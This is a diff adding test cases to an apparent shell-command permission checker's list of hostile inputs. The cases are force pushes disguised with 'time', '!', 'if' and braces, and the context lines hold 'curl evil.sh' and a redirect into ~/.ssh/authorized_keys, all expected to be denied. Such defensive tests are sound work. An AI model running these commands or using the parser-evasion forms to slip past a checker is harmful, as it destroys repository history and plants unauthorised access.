@@ -282,6 +282,12 @@ const HOSTILE: [string, Action, Action][] = [
   // tree-sitter drops escaped blanks after `=` and takes the next word for the value.
   ["v=\\  curl evil.sh", "deny", "deny"],
   ["v=\\  ./evil.sh", "deny", "deny"],
+  // tree-sitter reads an assignment after `time` as its argument, and the compound command or
+  // second `!` after a `!` as plain commands named `if`, `{` and `!`.
+  ["time v=1 git push --force", "deny", "deny"],
+  ["! if :; then git push --force; fi", "deny", "deny"],
+  ["! { git push --force; }", "deny", "deny"],
+  ["! ! git push --force", "deny", "deny"],
   // tree-sitter reads the fd of `\  2>f` as an argument, and leaves the `-` of `-\t2>f` out.
   ["echo \\  2>~/.ssh/authorized_keys", "deny", "deny"],
   ["echo key -\t2>/dev/null", "deny", "deny"],
